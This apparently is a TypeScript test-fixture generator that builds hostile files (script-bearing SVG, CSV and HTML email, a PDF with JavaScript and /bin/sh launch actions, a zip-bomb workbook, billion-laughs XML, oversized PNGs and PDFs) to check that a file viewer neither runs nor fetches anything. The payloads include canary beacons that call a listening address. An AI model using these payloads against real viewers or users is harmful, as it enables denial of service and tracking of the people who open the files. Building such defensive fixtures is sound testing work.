// Files made to harm whoever looks at them, and harmless ones of each kind that is shown: made anew from a seed
// each time, so that none of them lies in the repository.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';

export interface MadeFile {
  readonly name: string;
  /** Made when they are wanted: some take a moment. */
  readonly bytes: Uint8Array;
}

const text = (content: string): Uint8Array => Buffer.from(content, 'utf8');

const chunk = (kind: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
};

/** A grey picture with one bit for each pixel. `data` null leaves out the pixels. */
export const madePng = (width: number, height: number, data: 'grey' | null = 'grey'): Uint8Array => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const rows = data === null ? null : deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    ...(rows === null ? [] : [chunk('IDAT', rows)]),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

const packedBefore = new WeakMap<Uint8Array, Buffer>();

/** Twice, because what is packed once can unpack to at most a thousand times its size. */
const packedTwice = (bytes: Uint8Array): Buffer => {
  const packed = packedBefore.get(bytes) ?? deflateSync(deflateSync(bytes, { level: 1 }));
  packedBefore.set(bytes, packed);
  return packed;
};

/** Objects from 1 on, the first being the catalog. A stream is given as its bytes, packed with Flate twice. */
export const madePdf = (
  objects: readonly (string | Uint8Array | { readonly dictionary: string; readonly stream: Uint8Array })[],
): Uint8Array => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let at = parts[0]?.length ?? 0;
  const places: number[] = [];
  const add = (part: Buffer): void => {
    parts.push(part);
    at += part.length;
  };
  objects.forEach((object, index) => {
    places.push(at);
    add(Buffer.from(`${String(index + 1)} 0 obj\n`));
    if (typeof object === 'string') add(Buffer.from(object));
    else {
      const { dictionary, stream } =
        object instanceof Uint8Array ? { dictionary: '', stream: object } : object;
      const packed = packedTwice(stream);
      add(
        Buffer.from(
          `<< ${dictionary} /Length ${String(packed.length)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`,
        ),
      );
      add(packed);
      add(Buffer.from('\nendstream'));
    }
    add(Buffer.from('\nendobj\n'));
  });
  const start = at;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(objects.length + 1);
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${rows}`));
  add(Buffer.from(`trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${String(start)}\n%%EOF\n`));
  return Buffer.concat(parts);
};

const FONT = '<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
const page = (contents: string, more = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources ${FONT} /Contents ${contents} ${more} >>`;
const words = (say: string): Uint8Array =>
  text(`BT /F1 18 Tf 20 150 Td (${say}) Tj ET 0 0 1 rg 20 20 60 40 re f`);

const XLSX_PARTS = (sheet: Uint8Array): Record<string, Uint8Array> => ({
  '[Content_Types].xml': text(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
  ),
  '_rels/.rels': text(
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  ),
  'xl/workbook.xml': text(
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="People" sheetId="1" r:id="r1"/></sheets></workbook>',
  ),
  'xl/_rels/workbook.xml.rels': text(
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  ),
  'xl/worksheets/sheet1.xml': sheet,
});

/** One part of a zip whose packed bytes are given, so that nothing has to hold the unpacked ones. */
const zipOfPacked = (name: string, packed: Uint8Array, size: number, crc: number): Uint8Array => {
  const file = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(file.length, 26);
  return Buffer.concat([local, file, packed]);
};

/** A workbook whose sheet unpacks to `megabytes`, in some hundred kilobytes. */
export const zipBomb = (megabytes: number): Uint8Array => {
  const sheet = Buffer.alloc(megabytes * 2 ** 20, ' ');
  sheet.write('<worksheet><sheetData>');
  const packed = deflateRawSync(sheet, { level: 1 });
  const parts = { ...XLSX_PARTS(text('')) };
  Reflect.deleteProperty(parts, 'xl/worksheets/sheet1.xml');
  const zip = Buffer.from(zipSync(parts));
  // The bomb goes before the directory of the others, which gets one entry more.
  const end = zip.length - 22;
  const directoryAt = zip.readUInt32LE(end + 16);
  const crc = crc32(sheet);
  const local = zipOfPacked('xl/worksheets/sheet1.xml', packed, sheet.length, crc);
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(20, 6);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(crc, 16);
  entry.writeUInt32LE(packed.length, 20);
  entry.writeUInt32LE(sheet.length, 24);
  entry.writeUInt16LE(name.length, 28);
  entry.writeUInt32LE(directoryAt, 42);
  const directory = Buffer.concat([zip.subarray(directoryAt, end), entry, name]);
  const close = Buffer.from(zip.subarray(end));
  const entries = close.readUInt16LE(10) + 1;
  close.writeUInt16LE(entries, 8);
  close.writeUInt16LE(entries, 10);
  close.writeUInt32LE(directory.length, 12);
  close.writeUInt32LE(directoryAt + local.length, 16);
  return Buffer.concat([zip.subarray(0, directoryAt), local, directory, close]);
};

export const madeXlsx = (sheet: string): Uint8Array => zipSync(XLSX_PARTS(text(sheet)));

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_none, at) => `<!ENTITY lol${String(at + 1)} "${`&lol${at === 0 ? '' : String(at)};`.repeat(10)}">`,
).join('')}]>`;

/** What a script in a file would do if it ran: leave a mark wherever it can, and tell `address`. */
const canary = (address: string): string =>
  `try{top.canary=1}catch{}try{parent.canary=1}catch{}window.canary=1;try{fetch('${address}/script')}catch{};new Image().src='${address}/script.png'`;

/** @param address an http: address at which somebody listens; nothing may ever ask there */
export const hostileFiles = (address: string): readonly MadeFile[] => [
  {
    name: 'script.svg',
    bytes: text(
      `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="${canary(address)}"><script>${canary(address)}</script><style>@import url(${address}/style.css);</style><image href="${address}/image.png" width="9" height="9"/><rect width="200" height="100" fill="#c33"/></svg>`,
    ),
  },
  {
    name: 'cells.csv',
    bytes: text(
      `name,comment\n"<img src=x onerror=""${canary(address)}"">",<script>${canary(address)}</script>\n=HYPERLINK("${address}/cell"),"<iframe src=javascript:top.canary=1>"\n`,
    ),
  },
  { name: 'open-quote.csv', bytes: text(`a,b\n"${'x,'.repeat(2_000_000)}`) },
  {
    name: 'actions.pdf',
    bytes: madePdf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${canary(address).replace(/[()\\]/g, '\\$&')}; app.alert(1); this.submitForm('${address}/form')) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (window.canary=1) >>] >> >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(
        '4 0 R',
        `/AA << /O << /S /URI /URI (${address}/opened) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${address}/link) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (/bin/sh) >> >>]`,
      ),
      words('Actions'),
    ]),
  },
  {
    name: 'million-pages.pdf',
    bytes: madePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
      page('4 0 R'),
      words('Page one of a million'),
    ]),
  },
  {
    // Pictures of 99 megapixels each, in some kilobytes.
    name: 'unpacks-to-much.pdf',
    get bytes() {
      const picture = Buffer.alloc(9950 * 9950 * 3, 'abc');
      const dictionary =
        '/Type /XObject /Subtype /Image /Width 9950 /Height 9950 /ColorSpace /DeviceRGB /BitsPerComponent 8';
      return madePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /A 5 0 R /B 6 0 R /C 7 0 R >> >> /Contents 4 0 R >>',
        text('q 100 0 0 99 0 0 cm /A Do Q q 99 0 0 100 100 0 cm /B Do Q q 98 0 0 98 200 0 cm /C Do Q'),
        { dictionary, stream: picture },
        { dictionary: `${dictionary} /Decode [1 0 1 0 1 0]`, stream: picture },
        { dictionary: `${dictionary} /Intent /Perceptual`, stream: picture },
      ]);
    },
  },
  {
    name: 'bomb.xlsx',
    get bytes() {
      return zipBomb(220);
    },
  },
  { name: 'laughs.xml', bytes: text(`<?xml version="1.0"?>${LAUGHS}<lolz>&lol9;</lolz>`) },
  {
    name: 'laughs.svg',
    bytes: text(
      `<?xml version="1.0"?>${LAUGHS}<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>`,
    ),
  },
  {
    name: 'laughs.xlsx',
    bytes: madeXlsx(
      `<?xml version="1.0"?>${LAUGHS}<worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&lol9;</v></c></row></sheetData></worksheet>`,
    ),
  },
  {
    name: 'far-cells.xlsx',
    bytes: madeXlsx(
      `<?xml version="1.0"?><worksheet><sheetData>${Array.from(
        { length: 20_000 },
        (_none, row) => `<row r="${String(row + 1)}"><c r="XFD${String(row + 1)}"><v>1</v></c></row>`,
      ).join('')}</sheetData></worksheet>`,
    ),
  },
  { name: 'huge-header.png', bytes: madePng(10_000, 10_000, null) },
  { name: 'huge.png', bytes: madePng(10_000, 10_000) },
  { name: 'no-pixels.png', bytes: madePng(300, 200, null) },
  {
    name: 'broken.log',
    bytes: Buffer.concat([
      text('started\n'),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xf0, 0x28, 0x8c, 0x28, 0x80, 0x0a]),
      text('\u202Edne\n'),
    ]),
  },
  { name: 'one-line.json', bytes: text('['.repeat(500_000)) },
  {
    name: 'remote.eml',
    bytes: text(
      `From: Mallory <m@example.com>\r\nTo: you@example.com\r\nSubject: =?utf-8?q?Look_=E2=80=AEhere?=\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><head><base href="${address}/"><meta http-equiv="refresh" content="0;url=${address}/refresh"><link rel="dns-prefetch" href="//canary.example"><link rel="preconnect" href="${address}"><link rel=stylesheet href="${address}/mail.css"><style>@import url(${address}/import.css);body{background:url(${address}/background.png)}</style><script>${canary(address)}</script></head><body onload="${canary(address)}" background="${address}/body.png" style="background:url(${address}/inline.png)"><p style="color:#c33">Letter</p><img src="${address}/pixel.png"><img srcset="${address}/set.png 1x" src="data:image/png;base64,iVBORw0KGgo="><video autoplay poster="${address}/poster.png" src="${address}/v.mp4"></video><iframe src="${address}/frame"></iframe><object data="${address}/object"></object><form action="${address}/form"><input autofocus onfocus="${canary(address)}"></form><svg onload="${canary(address)}"><image href="${address}/svg.png"/></svg><a href="${address}/click" ping="${address}/ping">press</a>${'<div>'.repeat(20_000)}</body></html>\r\n`,
    ),
  },
  { name: 'nested.eml', bytes: nestedMail(2000) },
  {
    name: 'tool.exe',
    bytes: Buffer.concat([text('MZ'), Buffer.alloc(58), Buffer.from([64, 0, 0, 0]), text('PE\0\0')]),
  },
];

const nestedMail = (depth: number): Uint8Array => {
  const opening = Array.from(
    { length: depth },
    (_none, at) => `Content-Type: multipart/mixed; boundary=b${String(at)}\r\n\r\n--b${String(at)}\r\n`,
  );
  return text(`From: a@example.com\r\nSubject: deep\r\n${opening.join('')}\r\nend\r\n`);
};

/** One of each kind that is shown. */
export const plainFiles = (): readonly MadeFile[] => [
  {
    name: 'people.csv',
    bytes: text(
      `account,role\n${Array.from({ length: 900 }, (_none, at) => `user${String(at)},reader\n`).join('')}`,
    ),
  },
  {
    name: 'policy.md',
    bytes: text(
      '# Access policy\n\n- **Owners** review each quarter\n- See [the page](https://example.com)\n',
    ),
  },
  { name: 'config.json', bytes: text('{"mfa":true,"sessions":{"hours":8},"allowed":["10.0.0.0/8"]}') },
  { name: 'picture.png', bytes: madePng(640, 400) },
  {
    name: 'report.pdf',
    bytes: madePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>',
      page('4 0 R'),
      words('First page'),
      page('6 0 R'),
      words('Second page'),
    ]),
  },
  {
    name: 'people.xlsx',
    bytes: madeXlsx(
      '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>account</t></is></c><c r="B1" t="inlineStr"><is><t>role</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>anya</t></is></c><c r="B2" t="inlineStr"><is><t>admin</t></is></c></row></sheetData></worksheet>',
    ),
  },
];
